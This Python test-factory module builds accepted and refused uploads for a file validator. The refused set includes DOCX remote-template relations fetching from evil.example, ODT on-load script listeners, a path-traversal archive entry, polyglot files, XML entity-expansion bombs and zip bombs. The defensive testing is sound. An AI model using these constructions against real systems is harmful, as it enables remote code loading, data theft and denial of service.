"""Makes files as people send them, and as their enemies do: pictures, texts, recordings, and a corpus of what
must be refused."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from typing import Any

from tests.factories import pictures
from tests.factories.pictures import CANARY, HTML

ODT = "application/vnd.oasis.opendocument.text"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
_TEXT = b"<?xml version='1.0' encoding='UTF-8'?><office>Hello</office>"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


def packed(*parts: tuple[str, bytes], stored: tuple[str, ...] = ("mimetype",)) -> bytes:
    """An archive of these parts in this order."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        for name, content in parts:
            way = zipfile.ZIP_STORED if name in stored else zipfile.ZIP_DEFLATED
            archive.writestr(name, content, way)
    return file.getvalue()


def odt(*more: tuple[str, bytes], text: bytes = _TEXT, kind: str = ODT) -> bytes:
    """A text as LibreOffice writes it."""
    manifest = b"<manifest:manifest/>"
    return packed(
        ("mimetype", kind.encode()), ("content.xml", text), ("Configurations2/images/Bitmaps/", b""),
        ("META-INF/manifest.xml", manifest), *more,
    )  # fmt: skip


def docx(*more: tuple[str, bytes], text: bytes = _TEXT, types: bytes = b"<Types/>") -> bytes:
    """A text as Word writes it."""
    relations = f'<Relationships><Relationship Id="1" Type="{_RELATION}styles" Target="s.xml"/>'
    link = (
        f'<Relationship Id="2" Type="{_RELATION}hyperlink" Target="https://a.example" TargetMode="External"/>'
    )
    return packed(
        ("[Content_Types].xml", types), ("word/document.xml", text),
        ("word/_rels/document.xml.rels", f"{relations}{link}</Relationships>".encode()), *more,
    )  # fmt: skip


def relation(kind: str) -> bytes:
    """A text's note that something of this kind is fetched from elsewhere."""
    return (
        f'<Relationships><Relationship Id="9" Type="{_RELATION}{kind}" '
        'Target="https://evil.example/a.dotm" TargetMode="External"/></Relationships>'
    ).encode()


def opened(inside: str) -> bytes:
    """The content of an ODT that has this in it."""
    return f'<office:document-content xmlns:office="o">{inside}</office:document-content>'.encode()


def _source(href: str, element: str = "text:section-source") -> str:
    return f'<{element} xlink:href="{href}"/>'


_TEMPLATE = "word/_rels/settings.xml.rels"
_FOREIGN = relation("attachedTemplate")
_HEARS = (
    '<script:event-listener script:event-name="dom:load" '
    'xlink:href="vnd.sun.star.script:a.py$b?language=Python&amp;location=share"/>'
)
SLY: dict[str, bytes] = {
    "docx with a foreign template in single quotes": docx((_TEMPLATE, _FOREIGN.replace(b'"', b"'"))),
    "docx with a foreign template behind a sign": docx(
        (_TEMPLATE, _FOREIGN.replace(b'Id="9"', b'Id="9" A=">"'))
    ),
    "docx with a foreign template behind a sign in its place": docx(
        (
            _TEMPLATE,
            _FOREIGN.replace(b'Target="https://evil.example/a.dotm"', b"").replace(
                b"Relationship Id", b'Relationship Target="https://evil.example/a?>" Id'
            ),
        ),
    ),
    "docx with a foreign template in numbers": docx((_TEMPLATE, _FOREIGN.replace(b"dT", b"d&#84;"))),
    "docx that is from elsewhere in numbers": docx((_TEMPLATE, _FOREIGN.replace(b"Ext", b"&#x45;xt"))),
    "docx with a foreign template under a prefix": docx(
        (_TEMPLATE, _FOREIGN.replace(b"<R", b"<p:R").replace(b"</R", b"</p:R"))
    ),
    "docx with a foreign template in capitals": docx((_TEMPLATE.replace("rels", "RELS"), _FOREIGN)),
    "docx with a foreign template in two-byte letters": docx((_TEMPLATE, _FOREIGN.decode().encode("utf-16"))),
    "docx with a foreign template in letters of seven bits": docx(
        (_TEMPLATE, b"<?xml version='1.0' encoding='utf-7'?>" + _FOREIGN)
    ),
    "docx with a document type": docx((_TEMPLATE, b"<!DOCTYPE a><Relationships/>")),
    "docx with relations that are none": docx((_TEMPLATE, b"<Relationship " * 6_000)),
    "docx with more relations than are read": docx(
        (_TEMPLATE, b"<Relationships>" + b" " * 1_048_576 + b"</Relationships>")
    ),
    "docx with foreign text": docx((_TEMPLATE, relation("aFChunk"))),
    "docm in numbers": docx(types=b'<Override ContentType="application/x.macro&#69;nabled.main+xml"/>'),
    "docx with a part twice, once in capitals": docx(("word/A.xml", b"<a/>"), ("word/a.xml", b"<a/>")),
    "odt that does something when it is opened": odt(text=opened(_HEARS)),
    "odt that does something, under a prefix": odt(text=opened(_HEARS.replace("script:e", "x:e"))),
    "odt with a link that runs something": odt(text=opened(_source("vnd.sun.star.script:a", "text:a"))),
    "odt with a foreign section": odt(text=opened(_source("https://evil.example/a.odt"))),
    "odt with a foreign section in numbers": odt(text=opened(_source("&#104;ttps://evil.example/a.odt"))),
    "odt with a section of another machine": odt(text=opened(_source("file:////evil.example/a.odt"))),
    "odt with a section of a share": odt(text=opened(_source(r"\\\\evil.example\\a.odt"))),
    "odt with a section without a scheme": odt(text=opened(_source("//evil.example/a.odt"))),
    "odt with a foreign object": odt(text=opened(_source("https://evil.example/a", "draw:object"))),
    "odt with a foreign object of another kind": odt(
        text=opened(_source("https://evil.example/a", "draw:object-ole"))
    ),
    "odt with a foreign frame": odt(text=opened(_source("https://evil.example/", "draw:floating-frame"))),
    "odt with a foreign object in an object": odt(
        ("Object 1/content.xml", opened(_source("https://evil.example/a", "draw:object")))
    ),
    "odt with a foreign template": odt(
        ("meta.xml", opened(_source("https://evil.example/a.ott", "meta:template")))
    ),
    "odt with a foreign object in its styles": odt(
        ("styles.xml", opened(_source("https://evil.example/a", "draw:object")))
    ),
    "odt that asks another program": odt(text=opened('<office:dde-source office:dde-item="a"/>')),
    "odt with a document type": odt(text=b"<!DOCTYPE a><a/>"),
    "odt with one long word": odt(text=b"<a><!--" + b"x" * 600_000 + b"--></a>"),
    "odt that is not whole": odt(text=b"<office>"),
    "odt that is too deep": odt(text=b"<a>" * 1_001 + b"</a>" * 1_001),
    "odt of too many names": odt(text=opened("".join(f"<a{n}/>" for n in range(10_001)))),
    "odt of more elements than are counted": odt(text=b"<a>" + b"<b/>" * 500_000 + b"</a>"),
    "odt of more attributes than are counted": odt(
        text=b"<a>" + (b"<b " + b" ".join(b"a%d=''" % n for n in range(999)) + b"/>") * 501 + b"</a>"
    ),
}
"""Texts that run or fetch something, said in other words, and texts that take long to read."""


def pdf(more: bytes = b"") -> bytes:
    """A page with nothing on it."""
    return (
        b"%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\n"
        + more
        + b"xref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 3>>\nstartxref\n9\n%%EOF\n"
    )


def _element(name: int, content: bytes, *, unknown: bool = False) -> bytes:
    mark = name.to_bytes((name.bit_length() + 7) // 8, "big")
    size = b"\x01" + b"\xff" * 7 if unknown else (len(content) | 1 << 56).to_bytes(8, "big")
    return mark + size + content


PIECE = b"\xf8\xff\xfe"
"""Twenty milliseconds of silence in Opus."""


def webm(
    seconds: float = 2, *, codec: bytes = b"A_OPUS", kinds: tuple[int, ...] = (2,), piece: bytes = PIECE,
    doc_type: bytes = b"webm", behind: bytes = b"", step: int = 20,
) -> bytes:  # fmt: skip
    """A voice note as Chromium and Firefox record it: of sizes that nobody knows beforehand."""
    tracks = b"".join(
        _element(0xAE, _element(0xD7, b"\x01") + _element(0x83, bytes([kind])) + _element(0x86, codec))
        for kind in kinds
    )
    clusters = b""
    for start in range(0, int(seconds * 1000), 5000):
        blocks = b"".join(
            _element(0xA3, b"\x81" + struct.pack(">hB", at - start, 0x80) + piece)
            for at in range(start, min(start + 5000, int(seconds * 1000)), step)
        )
        clusters += _element(0x1F43B675, _element(0xE7, start.to_bytes(4, "big")) + blocks, unknown=True)
    info = _element(0x1549A966, _element(0x2AD7B1, (1_000_000).to_bytes(3, "big")))
    head = _element(0x1A45DFA3, _element(0x4282, doc_type))
    return head + _element(0x18538067, info + _element(0x1654AE6B, tracks) + clusters + behind, unknown=True)


def _page(number: int, granule: int, packets: list[bytes], stream: int = 7, kind: int = 0) -> bytes:
    table = bytes(
        length for packet in packets for length in (*[255] * (len(packet) // 255), len(packet) % 255)
    )
    head = struct.pack("<4sBBqIIIB", b"OggS", 0, kind, granule, stream, number, 0, len(table))
    return head + table + b"".join(packets)


def ogg(seconds: float = 2, *, head: bytes = b"OpusHead", said: int | None = None, stream: int = 7) -> bytes:
    """A voice note in Ogg; `said` is how long its numbers say that it is."""
    begin = head + struct.pack("<BBHIhB", 1, 1, 312, 48_000, 0, 0)
    pages = [_page(0, 0, [begin], kind=2), _page(1, 0, [b"OpusTags" + bytes(8)])]
    pieces = int(seconds * 50)
    for start in range(0, pieces, 50):
        number = min(50, pieces - start)
        end = (start + number) * 960 if said is None else said * 48_000
        pages.append(_page(2 + start, end, [PIECE] * number, stream))
    return b"".join(pages)


def _box(kind: bytes, *content: bytes) -> bytes:
    body = b"".join(content)
    return struct.pack(">I4s", 8 + len(body), kind) + body


def mp4(
    seconds: int = 2, *, fragments: bool = False, handlers: tuple[bytes, ...] = (b"soun",), codec: int = 0x40,
    entry: bytes = b"mp4a", behind: bytes = b"",
) -> bytes:  # fmt: skip
    """A voice note as phones record it, in one piece or, as Safari does, in fragments; with the place in its
    notes."""
    esds = _box(b"esds", bytes(4), b"\x03\x19\x00\x01\x00\x04\x11", bytes([codec]), bytes(16))
    described = _box(b"stsd", bytes(4), struct.pack(">I", 1), _box(entry, bytes(28), esds))
    length = 0 if fragments else seconds * 1000
    times = _box(b"stts", bytes(4), struct.pack(">III", 1, length // 20, 20) if length else bytes(4))
    tracks = b"".join(
        _box(
            b"trak",
            _box(
                b"mdia", _box(b"mdhd", bytes(12), struct.pack(">II", 1000, length), bytes(4)),
                _box(b"hdlr", bytes(8), handler, bytes(13)),
                _box(b"minf", _box(b"stbl", described, times)),
            ),
        )
        for handler in handlers
    )  # fmt: skip
    notes = _box(b"udta", _box(b"\xa9xyz", f"+52.5200+013.4050/{CANARY}".encode()))
    extends = _box(b"mvex", _box(b"trex", bytes(8), struct.pack(">IIII", 1, 20, 0, 0))) if fragments else b""
    file = _box(b"ftyp", b"M4A \x00\x00\x00\x00isom") + _box(b"moov", tracks, extends, notes)
    if not fragments:
        return file + _box(b"mdat", bytes(200)) + behind
    for _second in range(seconds):
        run = _box(b"trun", bytes(4), struct.pack(">I", 50))
        piece = _box(b"traf", _box(b"tfhd", b"\x00\x00\x00\x08", struct.pack(">II", 1, 20)), run)
        file += _box(b"moof", piece) + _box(b"mdat", bytes(100))
    return file + behind


GOOD: dict[str, tuple[bytes, str]] = {
    "jpeg with a place": (pictures.photo_with_place(), "image/jpeg"),
    "png": (pictures.photo("PNG"), "image/png"),
    "png with transparency": (pictures.GOOD["png with transparency"], "image/png"),
    "png of few colours": (pictures.GOOD["png of few colours"], "image/png"),
    "webp": (pictures.photo("WEBP"), "image/webp"),
    "jpeg for print": (pictures.GOOD["jpeg for print"], "image/jpeg"),
    "jpeg and html": (pictures.GOOD["jpeg and html"], "image/jpeg"),
    "jpeg and zip": (pictures.GOOD["jpeg and zip"], "image/jpeg"),
    "png with html": (pictures.GOOD["png with html"], "image/png"),
    "pdf": (pdf(), "application/pdf"),
    "odt": (odt(), ODT),
    "odt with an object and a template of one's own": (
        odt(
            ("meta.xml", opened(_source("../../Templates/Letter.ott", "meta:template"))),
            ("styles.xml", opened(_source("file:///C:/Templates/a.ott", "meta:template"))),
            ("Object 1/content.xml", opened("")),
            text=opened(
                _source("./Object 1", "draw:object")
                + _source("https://a.example", "text:a")
                + _source("https://a.example/a.png", "draw:image")
                + "<office:scripts/>"
            ),
        ),
        ODT,
    ),
    "odt of a long text": (odt(text=opened("<text:p>a</text:p>" * 20_000 + "a" * 900_000)), ODT),
    "docx": (docx(), DOCX),
    "opus in webm": (webm(), "audio/webm"),
    "two minutes in webm": (webm(120), "audio/webm"),
    "opus in ogg": (ogg(), "audio/ogg"),
    "aac in mp4": (mp4(), "audio/mp4"),
    "aac in fragments": (mp4(fragments=True), "audio/mp4"),
}
"""What is taken, and what it is."""

_REFUSED_PICTURES = (
    "nothing", "text", "svg", "svg with a head", "html", "html called a picture", "gif", "gif and script",
    "bmp", "tiff", "icon", "zip", "zip before a picture", "heic", "film", "program", "postscript", "sound",
    "moving png", "moving webp",
)  # fmt: skip

REFUSED: dict[str, bytes] = {
    **{name: pictures.UNSUPPORTED[name] for name in _REFUSED_PICTURES},
    "html before a pdf": HTML + pdf(),
    "pdf without an end": pdf()[:-8],
    "pdf and zip": pdf() + packed(("a.html", HTML)),
    "pdf in a zip's words": pdf() + b"PK\x05\x06" + bytes(18),
    "javascript": b"alert(1)//%PDF-1.7",
    "odt with macros": odt(("Basic/Standard/Module1.xml", b"<script/>")),
    "odt with a script": odt(("Scripts/python/a.py", b"import os")),
    "odt of another kind": odt(kind="application/vnd.oasis.opendocument.spreadsheet"),
    "docx with macros": docx(("word/vbaProject.bin", b"x")),
    "docm called docx": docx(
        types=b'<Override ContentType="application/vnd.ms-word.document.macroEnabled"/>'
    ),
    "docx with a foreign template": docx(("word/_rels/settings.xml.rels", relation("attachedTemplate"))),
    "docx with a foreign object": docx(("word/_rels/a.xml.rels", relation("oleObject"))),
    **SLY,
    "docx with controls": docx(("word/activeX/activeX1.bin", b"x")),
    "docx with a program": docx(("word/embeddings/a.exe", b"MZ")),
    "docx and html before it": HTML + docx(),
    "docx and html behind it": docx() + HTML,
    "docx with a way out": docx(("../../etc/passwd", b"x")),
    "docx with a part twice": docx(("word/a.xml", b"1"), ("word/A.xml", b"2")).replace(
        b"word/A.xml", b"word/a.xml"
    ),
    "archive": packed(("a.txt", b"hello")),
    "sheet": packed(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<x/>")),
    "java archive": packed(("META-INF/MANIFEST.MF", b"Main-Class: A"), ("A.class", b"\xca\xfe\xba\xbe")),
    "film in webm": webm(kinds=(2, 1)),
    "vorbis in webm": webm(codec=b"A_VORBIS"),
    "matroska": webm(doc_type=b"matroska"),
    "webm with html behind it": webm() + HTML,
    "webm cut off": webm()[:-2],
    "webm with a file in it": webm(behind=_element(0x1941A469, HTML)),
    "vorbis in ogg": ogg(head=b"\x01vorbis\x00"),
    "two streams in ogg": ogg(stream=8),
    "ogg cut off": ogg()[:-3],
    "ogg with html behind it": ogg() + HTML,
    "ogg of more pieces than are counted": ogg()
    + b"".join(_page(2_000 + at, 0, [b""] * 255) for at in range(394)),
    "ogg of pages with nothing in them": ogg() + _page(2_000, 0, []) * 100_000,
    "film in mp4": mp4(handlers=(b"soun", b"vide")),
    "mp3 in mp4": mp4(codec=0x6B),
    "encrypted mp4": mp4(entry=b"enca"),
    "mp4 with html behind it": mp4(behind=HTML),
    "mp4 with a box of anything": mp4(behind=_box(b"uuid", HTML)),
    "mp3": b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x64" * 100,
}
"""What is refused as of no kind that is taken: 415."""

LONG: dict[str, bytes] = {
    "webm": webm(130),
    "webm that says it is short": webm(4, piece=b"\x0b\x3f", step=20),
    "ogg": ogg(130),
    "ogg that says it is short": ogg(130, said=2),
    "mp4": mp4(130),
    "mp4 in fragments": mp4(130, fragments=True),
}
"""Voice notes of more than two minutes."""


def _many(name: str, size: int, times: int) -> tuple[tuple[str, bytes], ...]:
    zeros = bytes(size)
    return tuple((f"{name}{number}.png", zeros) for number in range(times))


def _lying(archive: bytes, says: int) -> bytes:
    """The same, whose list says of its largest part that it is so large."""
    with zipfile.ZipFile(io.BytesIO(archive)) as read:
        real = max(part.file_size for part in read.infolist())
    return archive.replace(struct.pack("<I", real), struct.pack("<I", says))


def bombs() -> dict[str, bytes]:
    """Small files that would grow; whether refused or read as something small."""
    entities = b'<!DOCTYPE a [<!ENTITY b "' + b"x" * 1000 + b'"><!ENTITY c "&b;&b;&b;&b;&b;&b;">]><a>&c;</a>'
    return {
        **pictures.BOMBS,
        "odt that grows": odt(("Pictures/a.png", bytes(150_000_000))),
        "docx that grows in parts": docx(*_many("word/media/", 9_000_000, 14)),
        "odt that says it is small": _lying(odt(("Pictures/a.png", bytes(150_000_000))), 1000),
        "docx of one long text": docx(text=b"<a>" + bytes(60_000_000)),
        "odt of entities": odt(text=entities),
        "docx of entities in two-byte letters": docx(text=entities.decode().encode("utf-16")),
        "docx of many parts": docx(*((f"word/{number}.xml", b"") for number in range(3_000))),
        "archive in archives": odt(("content2.zip", packed(("a", zlib.compress(bytes(9_000_000)))))),
    }


def form(content: bytes, name: str = "file.bin", **more: str) -> dict[str, Any]:
    """A file as Flask's test client sends a form's."""
    return {"data": {"file": (io.BytesIO(content), name), **more}, "content_type": "multipart/form-data"}
